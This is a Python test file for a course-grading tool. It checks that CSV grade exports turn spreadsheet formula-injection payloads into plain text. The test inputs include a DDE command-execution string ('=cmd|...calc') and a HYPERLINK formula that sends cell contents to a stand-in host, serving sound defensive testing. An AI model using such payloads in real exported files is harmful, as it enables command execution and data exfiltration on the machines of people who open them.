"""Nothing in an exported table is calculated by a spreadsheet; numbers are numbers."""

import csv
import io
import sys

import pytest
from nbgrader.api import Gradebook
from nbgrader.apps.nbgraderapp import NbGraderApp

from cnnlab.course import rounds
from cnnlab.course.grading.class_report import table_of
from cnnlab.course.grading.records import Record
from cnnlab.course.grading.tables import cell, csv_of
from tests.course.grading.conftest import make_release
from tests.course.grading.courses import LESSON, make_course

FORMULAS = [
    "=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\uff1d1+1", "\uff0b1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")', "=cmd|'/c calc'!A0", "-cmd", "a;=1", "a\t@x", "a,+1+1", "a\n-1+1",
    "-1e", "+49 30 12-3",
]  # fmt: skip
NUMBERS = [-3, -2.5, 0, 7.25, "-3", "-2.5", "+4", "1e-05", "-1E+20"]
TEXTS = ["Ada", "Jean-Luc", "a@b.example", "x = 1 + 2", "Müller, Anna", 'say "=1"', "", "2026-01-02 10:00:00"]


def begins_a_formula(text):
    """As spreadsheets read it, whichever mark ends a cell for them."""
    for mark in ",;|\t\r\n":
        if any(
            piece.strip(" \u00a0\ufeff\u200b")[:1] in [*"=+-@\uff1d\uff0b\uff0d\uff20"] for piece in text.split(mark)
        ):
            return True
    return text[:1] in ("\t", "\r", "\n")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert begins_a_formula(text)
    assert not begins_a_formula(cell(text))
    assert cell(text).replace("'", "").split() == text.replace("'", "").split()


def test_numbers_stay_numbers_and_texts_as_they_are():
    assert [cell(value) for value in NUMBERS + TEXTS] == NUMBERS + TEXTS
    assert csv_of([[None, -1.5, "=1", 'a "b", c']]) == ',-1.5,\'=1,"a ""b"", c"\n'


def cells(text):
    return [one for row in csv.reader(io.StringIO(text)) for one in row]


def formulas(text):
    return [one for one in cells(text) if begins_a_formula(one)]


def test_the_class_report_holds_no_formula():
    records = [Record(name, "01_convolution", refused="=it can not be read; -x") for name in FORMULAS]
    assert formulas(table_of(make_release(), records)) == []


@pytest.fixture
def booked(tmp_path):
    course = make_course(tmp_path)
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
        for k, name in enumerate(FORMULAS):
            gradebook.add_student(f"{name}_{k}", first_name=name, last_name=f"{name}, {name}", email=name)
        gradebook.add_submission(LESSON, f"{FORMULAS[0]}_0")
    return course


def test_the_export_holds_no_formula_and_a_name_stays_in_its_cell(booked):
    path = rounds.export(booked, booked.root / "grades.csv")
    text = path.read_text(encoding="utf-8")
    assert formulas(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {len(row) for row in rows} == {11}
    assert {float(row["score"]) for row in rows} == {0}
    assert len(rows) == len(FORMULAS)
    if sys.platform != "win32":
        assert path.stat().st_mode & 0o777 == 0o600


def test_nbgraders_own_export_writes_the_same_table(booked, monkeypatch):
    ours = rounds.export(booked, booked.root / "ours.csv").read_bytes()
    monkeypatch.chdir(booked.root)
    NbGraderApp.clear_instance()
    NbGraderApp.launch_instance(["export"])
    assert (booked.root / "grades.csv").read_bytes() == ours
